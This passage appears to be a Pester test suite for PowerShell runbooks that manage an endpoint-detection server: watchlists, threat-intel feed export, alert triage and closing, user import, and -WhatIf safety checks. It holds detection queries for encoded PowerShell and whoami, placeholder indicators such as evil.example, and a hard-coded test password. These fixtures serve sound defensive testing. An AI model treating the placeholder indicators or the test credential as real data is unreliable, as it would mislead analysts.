        Set-CbWatchlist 'Net view' -Session us -Description other
        $rows = ./Compare-Watchlist.ps1 us | Group-Object Name -AsHashTable -AsString
        $rows['Net view'].Difference | Should -Be Description
        $rows['Net view'].Target | Should -Be other
        $rows['Half a query'].Difference | Should -Be Missing
        $rows['Every thousandth process'].Difference | Should -Be Extra
        $rows.Keys | Should -Not -Contain 'Unsigned programs'
    }

    It 'Disable-StaleWatchlist switches silent and noisy ones off, and says why' {
        $rows = ./Disable-StaleWatchlist.ps1 -MaxHits 50
        ($rows | Where-Object Id -EQ 12).Why | Should -Be '81 hits'
        ($rows | Where-Object Id -EQ 5).Why | Should -BeLike 'no hit since 20*'
        $rows.Id | Should -Not -Contain 36 -Because 'it is read-only'
        (Get-CbWatchlist -Enabled $true).Id | Should -Not -Contain 12
        (Get-CbWatchlist -Id 12).Query | Should -Be 'process_name:powershell.exe cmdline:enc'
    }

    It 'Test-Detection names the watchlists with mistakes' {
        $broken = ./Test-Detection.ps1 -Severity Error
        $broken.Name | Should -Be 'Damaged by a connector', 'Half a query'
        $broken.Source | Select-Object -Unique | Should -Be Watchlist
        (./Test-Detection.ps1).Rule | Should -Contain EscapedMeaning
    }

    It 'Measure-Feed counts reports, indicators and alerts' {
        $intel = ./Measure-Feed.ps1 ContosoIntel
        $intel.Reports, $intel.Ignored, $intel.Indicators, $intel.Alerts, $intel.Open, $intel.FalsePositive, $intel.Noise | Should -Be 4, 1, 8, 5, 4, 1, 1
        (./Measure-Feed.ps1 | Where-Object Feed -EQ SANS).Alerts | Should -Be 0
    }

    It 'Get-FeedIndicator and Export-FeedFile carry a feed to another server' {
        $file = Join-Path $TestDrive contoso.json
        ./Get-FeedIndicator.ps1 ContosoIntel | ./Export-FeedFile.ps1 -Path $file -Name contosocopy | Should -HaveCount 4
        $page = @{ url = 'https://files.example/contoso.json'; body = [System.IO.File]::ReadAllText($file) }
        $null = Invoke-TestControl feeds -Method POST -Body $page -Server $us
        $feed = New-CbFeed $page.url -Session us
        $feed.Name | Should -Be contosocopy
        $ours = ./Get-FeedIndicator.ps1 ContosoIntel | ForEach-Object { "$($_.Report) $($_.Title) $($_.Score) $($_.Kind) $($_.Indicator)" } | Sort-Object
        ./Get-FeedIndicator.ps1 contosocopy -Session us | ForEach-Object { "$($_.Report) $($_.Title) $($_.Score) $($_.Kind) $($_.Indicator)" } | Sort-Object | Should -Be $ours
    }

    It 'Export-FeedFile adds to a file, keeps the rest, and refuses what is no indicator' {
        $file = Join-Path $TestDrive soc.json
        $first = 'Report,Title,Score,Indicator', 'inc-1,First,70,evil.example', 'inc-2,Second,-5,203.0.113.9' | ConvertFrom-Csv
        ($first | ./Export-FeedFile.ps1 -Path $file -Name soc -DisplayName 'Our own').Outcome | Should -Be New, New
        $feed = Get-Content $file -Raw | ConvertFrom-Json
        $feed.reports | ForEach-Object { $_.timestamp = 1000 }
        ConvertTo-Json $feed -Depth 8 | Set-Content $file
        $more = 'Report,Indicator', 'inc-1,EVIL2.example', 'inc-3,0911657be7411b6ec1961f3377deaac7', 'inc-2,203.0.113.9', 'inc-4,%%' | ConvertFrom-Csv
        $run = Invoke-TestScript { $more | ./Export-FeedFile.ps1 -Path $file -Name soc -Append }
        $run.Output | ForEach-Object { "$($_.Report) $($_.Outcome)" } | Should -Be 'inc-1 Changed', 'inc-3 New'
        $run.Errors.TargetObject.Report | Should -Be inc-4
        $feed = Get-Content $file -Raw | ConvertFrom-Json
        $feed.feedinfo.display_name | Should -Be 'Our own'
        $feed.reports.id | Should -Be inc-1, inc-2, inc-3
        $feed.reports[0].iocs.dns | Should -Be evil.example, EVIL2.example
        $feed.reports[0].timestamp | Should -BeGreaterThan 1000 -Because 'servers look at newer reports only'
        $feed.reports[1].timestamp | Should -Be 1000
        [System.IO.File]::ReadAllBytes($file)[0] | Should -Be 123 -Because 'a mark before the text would break other readers'
    }

    It 'Get-AlertQueue puts the worst host first' {
        $rows = ./Get-AlertQueue.ps1
        $rows.HostName | Should -Be fin-ws-01, sql01
        $rows[0].Count, $rows[0].Severity, $rows[0].AssignedTo, "$($rows[0].Isolation)" | Should -Be 4, 88.9, helpdesk, NotIsolated
        $rows[0].Alerts | Should -HaveCount 4
        (./Get-AlertQueue.ps1 -MinSeverity 60).HostName | Should -Be fin-ws-01
    }

    It 'Close-Alert closes what the query finds, and tells what it was' {
        $rows = ./Close-Alert.ps1 hostname:fin-ws-01 -As Resolved
        $rows | Should -HaveCount 4
        $rows.Before | ForEach-Object { "$_" } | Sort-Object -Unique | Should -Be InProgress, Unresolved
        $rows.Status | Select-Object -Unique | Should -Be Resolved
        (Get-CbAlert -Status Unresolved, InProgress).HostName | Should -Be sql01
        (Get-CbThreatReport -Ignored) | Should -HaveCount 1
        ./Close-Alert.ps1 hostname:fin-ws-01 -As Resolved | Should -BeNullOrEmpty
    }

    It 'Close-Alert refuses more than it may close' {
        $failure = Get-TestError { ./Close-Alert.ps1 hostname:fin-ws-01 -As Resolved -MaxCount 3 }
        $failure.Category | Should -Be LimitsExceeded
        Get-Change | Should -BeNullOrEmpty
    }

    It 'Close-Alert silences the reports when asked to' {
        $null = ./Close-Alert.ps1 hostname:sql01 -As FalsePositive -IgnoreReport
        (Get-CbThreatReport -Ignored).Id | Should -Contain contoso-2023-112
    }
}

Describe 'Administration' {
    BeforeAll { Push-Location "$folder/Administration" }

    AfterAll { Pop-Location }

    BeforeEach { Initialize-Server }

    It 'Get-UserAudit shows rights and findings' {
        $null = New-CbUser nobody (ConvertTo-TestSecret 'Winter-2026!')
        $rows = ./Get-UserAudit.ps1
        ($rows | Where-Object UserName -EQ helpdesk).Access | Should -Be "Arbeitspl$([char]0xe4)tze M$([char]0xfc)nchen: Viewer; Default Group: Viewer"
        ($rows | Where-Object UserName -EQ admin).Findings | Should -Be 'global administrator'
        ($rows | Where-Object UserName -EQ nobody).Findings | Should -Be 'no team; no address'
        ./Get-UserAudit.ps1 -Session eu, us | Should -HaveCount 5
    }

    It 'Import-User makes who is not there, with teams' {
        $list = 'UserName,FirstName,Email,Team', 'alice,Alice,alice@contoso.test,Help Desk; Administrators', 'helpdesk,,,', 'bob,Bob,,Nobodies' | ConvertFrom-Csv
        $rows = $list | ./Import-User.ps1 -Password (ConvertTo-TestSecret 'Winter-2026!')
        $rows.Outcome | Should -Be Created, ThereBefore, Failed
        $rows[2].Detail | Should -BeLike "*no team 'Nobodies'*"
        (Get-CbUser alice).Teams.Name | Sort-Object | Should -Be Administrators, 'Help Desk'
        (Get-CbUser).UserName | Should -Not -Contain bob
    }

    It 'Dismount-OldPartition puts old ones away, and deletes only what it is told to' {
        ./Dismount-OldPartition.ps1 -Keep 1 | Should -BeNullOrEmpty
        $row = ./Dismount-OldPartition.ps1 -Keep 0
        $row.Action | Should -Be PutAway
        (Get-CbPartition $row.Name).Status | Should -Be cold
        Get-CbPartition | Should -HaveCount 3
        (./Dismount-OldPartition.ps1 -RemoveAfterDays 5).Action | Should -Be Removed
        (Get-CbPartition).Status | Sort-Object | Should -Be cold, hot
    }

    It 'Get-ServerReport has a row for each server, and what needs care' {
        $rows = ./Get-ServerReport.ps1 -Session eu, us
        $rows.Sensors | Should -Be 12, 20
        $rows[0].Online, $rows[0].Isolated, $rows[0].Version | Should -Be 11, 0, "$((Get-CbServerInfo).Version)"
        $rows[0].Problems | Should -Be 'not well: 1 sensors'
        (./Get-ServerReport.ps1 -LicenseDays 5000).Problems | Should -BeLike 'license ends in * days; not well*'
    }

    It 'Get-ServerReport goes on when a server fails' {
        Add-TestFault /api/license @{ kind = 'status'; status = 500 } -Server $eu
        Add-TestFault /api/v1/license @{ kind = 'status'; status = 500 } -Server $eu
        $rows = ./Get-ServerReport.ps1 -Session eu, us
        Clear-TestFault -Server $eu
        $rows[0].Problems | Should -BeLike '*500*'
        $rows[0].Sensors | Should -Be 12
        $rows[1].DaysLeft | Should -BeGreaterThan 0
    }

    It 'Get-ChangeHistory puts together who did what' {
        $null = New-CbBannedHash 00112233445566778899aabbccddeeff -Reason 'INC-42'
        $rows = ./Get-ChangeHistory.ps1
        $last = $rows | Where-Object What -EQ Ban | Select-Object -Last 1
        $last.UserName, $last.Target, $last.Detail | Should -Be admin, 00112233445566778899aabbccddeeff, INC-42
        ($rows | Where-Object What -EQ Tag).Target | Select-Object -Unique | Should -BeLike 'Invoice lure*'
        $rows.What | Should -Contain Unban
        $rows.What | Should -Contain 'Alert InProgress'
        $rows.Time | Should -Be ($rows.Time | Sort-Object)
        @(./Get-ChangeHistory.ps1 -After (Get-Date).AddDays(-2)).Count | Should -BeLessThan @($rows).Count
    }
}

Describe '-WhatIf' {
    BeforeDiscovery {
        $changing = @(
            @{ Name = 'Start-HostIsolation'; Area = 'Containment'; Run = { & $script fin-ws-02 -Case INC-1 -WhatIf } }
            @{ Name = 'Stop-HostIsolation'; Area = 'Containment'; Run = { & $script fin-ws-02 -Force -WhatIf } }
            @{ Name = 'Start-MassIsolation'; Area = 'Containment'; Run = { & $script fin-ws-02, web01 -WhatIf } }
            @{ Name = 'Import-BannedHash'; Area = 'Containment'; Run = { & $script 00112233445566778899aabbccddeeff INC-1 -WhatIf } }
            @{ Name = 'Save-Sample'; Area = 'Containment'; Run = { & $script 'digsig_result:"Invalid Signature"' $place -WhatIf } }
            @{ Name = 'Restart-UnhealthySensor'; Area = 'Sensors'; Run = { & $script -WhatIf } }
            @{ Name = 'Move-Sensor'; Area = 'Sensors'; Run = { [pscustomobject]@{ Name = '*'; Group = 'Servers' } | & $script -WhatIf } }
            @{ Name = 'Set-GroupSetting'; Area = 'Sensors'; Run = { & $script @{ AlertCriticality = 1 } -WhatIf } }
            @{ Name = 'Save-GroupInstaller'; Area = 'Sensors'; Run = { & $script $place -WhatIf } }
            @{ Name = 'Set-WatchlistDefinition'; Area = 'Detection'; Run = { 'Name,Query,Action', 'Net view,a:b,Alert', 'New,c:d,Alert' -replace 'a:b|c:d', 'cmdline:z' | ConvertFrom-Csv | & $script -WhatIf } }
            @{ Name = 'Disable-StaleWatchlist'; Area = 'Detection'; Run = { & $script -WhatIf } }
            @{ Name = 'Export-FeedFile'; Area = 'Detection'; Run = { [pscustomobject]@{ Report = 'a'; Indicator = 'a.example' } | & $script -Path $place -Name a -WhatIf } }
            @{ Name = 'Close-Alert'; Area = 'Detection'; Run = { & $script hostname:fin-ws-01 -As Resolved -IgnoreReport -WhatIf } }
            @{ Name = 'Import-User'; Area = 'Administration'; Run = { [pscustomobject]@{ UserName = 'alice' } | & $script -Password (ConvertTo-TestSecret 'Winter-2026!') -WhatIf } }
            @{ Name = 'Dismount-OldPartition'; Area = 'Administration'; Run = { & $script -Keep 0 -RemoveAfterDays 1 -WhatIf } }
            @{ Name = 'Export-HuntReport'; Area = 'Hunting'; Run = { [pscustomobject]@{ Hunt = 'a'; HostName = 'b' } | & $script -Path $place -WhatIf } }
            @{ Name = 'Invoke-ScheduledHunt'; Area = 'Hunting'; Run = { [pscustomobject]@{ Name = 'a'; Query = 'process_name:whoami.exe' } | & $script -StatePath $place -WhatIf } }
        )
    }

    It 'of <Name> says what it would do, and changes nothing' -ForEach $changing {
        Initialize-Server
        $script = "$folder/$Area/$Name.ps1"
        $place = Join-Path $TestDrive "whatif-$Name"
        $said = Join-Path $TestDrive said.txt
        Start-Transcript $said | Out-Null
        try { $run = Invoke-TestScript $Run }
        finally { Stop-Transcript | Out-Null }
        Get-Content $said | Where-Object { $_ -like '*What if: *' } | Should -Not -BeNullOrEmpty
        $run.Errors | Should -BeNullOrEmpty
        Get-Change | Should -BeNullOrEmpty
        $place | Should -Not -Exist
    }

    It 'is there in every runbook that changes something, and tried' -ForEach @(@{ Names = $changing.Name }) {
        $changes = foreach ($file in Get-ChildItem $folder -Recurse -Filter *.ps1) {
            $tree = [System.Management.Automation.Language.Parser]::ParseFile($file.FullName, [ref] $null, [ref] $null)
            $called = $tree.FindAll({ $args[0] -is [System.Management.Automation.Language.CommandAst] }, $true) | ForEach-Object { $_.GetCommandName() } | Where-Object { $_ -and $_ -ne 'ForEach-Object' }
            if ($called | Where-Object { (Get-Command $_).Parameters.ContainsKey('WhatIf') }) { $file.BaseName }
            if ((Get-Command $file.FullName).Parameters.ContainsKey('WhatIf')) { $file.BaseName }
        }
        $changes | Sort-Object -Unique | Should -Be ($Names | Sort-Object)
        $changes | Group-Object | Where-Object { $_.Count -ne 2 -and $_.Name -ne 'Export-FeedFile' } | Should -BeNullOrEmpty
    }
}
